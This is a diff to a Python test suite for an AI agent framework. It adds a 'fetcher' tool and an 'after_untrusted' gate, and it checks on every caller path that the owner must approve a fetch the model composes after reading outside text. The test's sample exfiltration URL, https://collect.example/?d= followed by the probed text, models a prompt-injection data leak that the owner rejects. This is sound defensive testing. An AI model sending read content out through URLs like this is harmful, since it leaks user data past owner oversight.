@@ -32,6 +32,7 @@ from tests.fakes.model import ScriptedModel, answer, call
 
 TOKEN = "PROBE-OUTSIDE-TEXT"
 probes_run: list[str] = []  # the origin chain of each probe call that ran
+fetched: list[str] = []  # each URL the fetcher fetched
 
 
 @tool(
@@ -45,6 +46,13 @@ async def probe(ctx: RunContext, item: str) -> str:
     """Reads outside text (a stand-in for a web page)."""
     probes_run.append(ctx.origin)
     return f"{TOKEN} about {item}"
+
+
+@tool("fetcher", egress=Egress.READ_ONLY, leaves=lambda p: [p.url], background=True)
+async def fetcher(ctx: RunContext, url: str) -> str:
+    """Fetches a URL (a stand-in for an http GET)."""
+    fetched.append(url)
+    return "fetched"
 
 
 @tool("idle", background=True)
@@ -97,7 +105,8 @@ class World:
         raise AssertionError("background work did not settle")
 
 
-Drive = Callable[[World, int, bool], Awaitable[None]]
+Step = tuple[str, dict[str, Any]]  # one call the path makes: tool, arguments
+Drive = Callable[[World, list[Step], bool], Awaitable[None]]
 
 
 @dataclass(frozen=True)
@@ -107,20 +116,24 @@ class Path_:
     toml: Callable[[bool], str] = lambda scoped: ""
     chatting: bool = False  # an owner's chat: `Allow in this chat` applies
     model_reads: bool = True  # the probe's text reaches a model (not only the terminal)
+    reads: bool = True  # a unit of work that reads (the CLI: the owner typed every call)
 
 
-def probes(times: int) -> list[Any]:
-    return [call("probe", item="x") for _ in range(times)]
+def made(steps: list[Step]) -> list[Any]:
+    return [call(name, **arguments) for name, arguments in steps]
 
 
-async def chat(w: World, times: int, scoped: bool) -> None:
-    w.script(*probes(times), answer("done"))
+async def chat(w: World, steps: list[Step], scoped: bool) -> None:
+    w.script(*made(steps), answer("done"))
     await w.core.agent.handle("1", "go", tools={"datetime"} if scoped else None)
 
 
-async def code(w: World, times: int, scoped: bool) -> None:
-    snippet = "\n".join(["print(api.probe(item='x'))"] * times)
-    w.script(call("execute_code", code=snippet), answer("done"))
+async def code(w: World, steps: list[Step], scoped: bool) -> None:
+    lines = [
+        f"print(api.{name}({', '.join(f'{k}={v!r}' for k, v in arguments.items())}))"
+        for name, arguments in steps
+    ]
+    w.script(call("execute_code", code="\n".join(lines)), answer("done"))
     await w.core.agent.handle("1", "go", tools={"execute_code"} if scoped else None)
 
 
@@ -128,35 +141,35 @@ def code_toml(scoped: bool) -> str:
     return "[code_mode]\nenabled = true\n"
 
 
-async def batch(w: World, times: int, scoped: bool) -> None:
-    for _ in range(times):
-        w.script(call("batch", calls=[{"tool": "probe", "arguments": {"item": "x"}}]))
+async def batch(w: World, steps: list[Step], scoped: bool) -> None:
+    for name, arguments in steps:
+        w.script(call("batch", calls=[{"tool": name, "arguments": arguments}]))
     w.script(answer("done"))
     await w.core.agent.handle("1", "go", tools={"batch"} if scoped else None)
 
 
-async def background(w: World, times: int, scoped: bool) -> None:
-    for _ in range(times):
-        w.script(call("probe", item="x", background=True), answer("started"), answer("told"))
+async def background(w: World, steps: list[Step], scoped: bool) -> None:
+    for name, arguments in steps:
+        w.script(call(name, **arguments, background=True), answer("started"), answer("told"))
         await w.core.agent.handle("1", "go", tools={"datetime"} if scoped else None)
         await w.settled()
 
 
-async def report_turn(w: World, times: int, scoped: bool) -> None:
-    # The released call is harmless; the turn that reports it makes the probe calls, with
-    # the tools of the turn that released it.
-    w.script(call("idle", background=True), answer("started"), *probes(times), answer("told"))
+async def report_turn(w: World, steps: list[Step], scoped: bool) -> None:
+    # The released call is harmless; the turn that reports it makes the calls, with the
+    # tools of the turn that released it.
+    w.script(call("idle", background=True), answer("started"), *made(steps), answer("told"))
     await w.core.agent.handle("1", "go", tools={"idle"} if scoped else None)
     await w.settled()
 
 
 def scout_toml(scoped: bool) -> str:
-    tools = '["datetime"]' if scoped else '["probe", "datetime"]'
+    tools = '["datetime"]' if scoped else '["probe", "fetcher", "datetime"]'
     return f'[agents.scout]\ninstructions = "Scouts."\ntools = {tools}\nmax_loops = 5\n'
 
 
-async def subagent(w: World, times: int, scoped: bool) -> None:
-    w.script(call("task", prompt="look", agent="scout"), *probes(times), answer("found"))
+async def subagent(w: World, steps: list[Step], scoped: bool) -> None:
+    w.script(call("task", prompt="look", agent="scout"), *made(steps), answer("found"))
     w.script(answer("done"))
     await w.core.agent.handle("1", "go")
 
@@ -173,12 +186,12 @@ Look it up.
 """
 
 
-async def skill(w: World, times: int, scoped: bool) -> None:
-    tools = "datetime" if scoped else "probe, datetime"
+async def skill(w: World, steps: list[Step], scoped: bool) -> None:
+    tools = "datetime" if scoped else "probe, fetcher, datetime"
     files = {"SKILL.md": SKILL_MD.format(tools=tools).encode()}
     w.core.skills.files.write("scout", files)
     await w.core.skills.files.put("scout", state="active", version="1.0.0", source="test")
-    w.script(*probes(times), answer("done"))
+    w.script(*made(steps), answer("done"))
     assert w.core.scheduler.run_skill is not None
     await w.core.scheduler.run_skill("scout", ("job",))
 
@@ -188,25 +201,25 @@ def disabled_toml(scoped: bool) -> str:
     return '[tools]\ndisabled = ["probe"]\n' if scoped else ""
 
 
-async def job(w: World, times: int, scoped: bool) -> None:
-    w.script(*probes(times), answer("done"))
+async def job(w: World, steps: list[Step], scoped: bool) -> None:
+    w.script(*made(steps), answer("done"))
     await w.core.scheduler.run_turn("job:j", "go", ("job",))
 
 
-async def heartbeat(w: World, times: int, scoped: bool) -> None:
-    w.script(*probes(times), answer("HEARTBEAT_OK"))
+async def heartbeat(w: World, steps: list[Step], scoped: bool) -> None:
+    w.script(*made(steps), answer("HEARTBEAT_OK"))
     await w.core.heartbeat.run_turn("check")
 
 
-async def cli(w: World, times: int, scoped: bool) -> None:
+async def cli(w: World, steps: list[Step], scoped: bool) -> None:
     ctx = w.core.registry.context.for_caller(Caller.of("cli"))
-    for _ in range(times):
-        w.results.append(await w.core.executor.run("probe", {"item": "x"}, ctx))
+    for name, arguments in steps:
+        w.results.append(await w.core.executor.run(name, arguments, ctx))
 
 
-async def dashboard(w: World, times: int, scoped: bool) -> None:
+async def dashboard(w: World, steps: list[Step], scoped: bool) -> None:
     await w.core.scheduler.create(prompt="go", chat_id=None, cron="0 0 1 1 *", job_id="j")
-    w.script(*probes(times), answer("done"))
+    w.script(*made(steps), answer("done"))
     assert await w.core.scheduler.request_run("j", "dashboard")
     await asyncio.gather(*await w.core.scheduler.tick())
 
@@ -221,10 +234,18 @@ PATHS = {
     "job": Path_("job", job, disabled_toml),
     "heartbeat": Path_("heartbeat", heartbeat, disabled_toml),
     "report_turn": Path_("chat>background", report_turn, chatting=True),
-    "cli": Path_("cli", cli, disabled_toml, model_reads=False),
+    "cli": Path_("cli", cli, disabled_toml, model_reads=False, reads=False),
     "dashboard": Path_("dashboard>job", dashboard, disabled_toml),
 }
-GATES = ["deny_rule", "requires_approval", "per_day_zero", "tool_scope", "untrusted", "in_chat"]
+GATES = [
+    "deny_rule",
+    "requires_approval",
+    "per_day_zero",
+    "tool_scope",
+    "untrusted",
+    "in_chat",
+    "after_untrusted",
+]
 
 
 def profile(first: str, limit: str) -> str:
@@ -240,7 +261,7 @@ async def world(tmp_path: Path) -> AsyncIterator[Callable[[str], Awaitable[World
         owner, model = Owner(), ScriptedModel()
         core = await Core.open(
             load_config(home=tmp_path),
-            extra_tools=[probe, idle],
+            extra_tools=[probe, fetcher, idle],
             model=model,
             approvers=[owner],
         )
@@ -248,6 +269,7 @@ async def world(tmp_path: Path) -> AsyncIterator[Callable[[str], Awaitable[World
         return World(core, model, owner)
 
     probes_run.clear()
+    fetched.clear()
     yield make
     for core in opened:
         await core.close()
@@ -289,8 +311,11 @@ async def test_every_gate_holds_on_every_caller_path(
         await w.core.audit.add_rule("deny", "probe:x", "owner")
     if gate == "in_chat":
         w.owner.approve = True
+    steps: list[Step] = [("probe", {"item": "x"})] * (2 if gate == "in_chat" else 1)
+    if gate == "after_untrusted":  # a URL the model composed, after reading outside text
+        steps.append(("fetcher", {"url": f"https://collect.example/?d={TOKEN}"}))
 
-    await path.drive(w, 2 if gate == "in_chat" else 1, scoped)
+    await path.drive(w, steps, scoped)
 
     made = await records(w.core)
     assert all(r["origin"] == path.chain for r in made), [r["origin"] for r in made]
@@ -318,6 +343,17 @@ async def test_every_gate_holds_on_every_caller_path(
         else:  # no owner in this chat: not offered, and nothing is allowed beyond the call
             assert [r.in_chat for r in w.owner.asked] == [False, False]
             assert decided == [("approved", "owner"), ("approved", "owner")]
+    elif gate == "after_untrusted":
+        assert [path.chain] == probes_run
+        fetches = list(reversed(await w.core.audit.listing(tool="fetcher")))
+        assert [r["origin"] for r in fetches] == [path.chain]
+        if path.reads:  # asked, showing what was read and the URL; rejected: nothing left
+            (asked,) = w.owner.asked
+            assert "probe" in asked.arguments["after outside content"]
+            assert asked.arguments["sends, decoded"] == f"https://collect.example/?d={TOKEN}"
+            assert fetched == [] and fetches[0]["approval_status"] == "rejected"
+        else:  # the owner typed the call at the terminal
+            assert w.owner.asked == [] and len(fetched) == 1
 
 
 def test_the_matrix_covers_every_caller_and_gate() -> None:
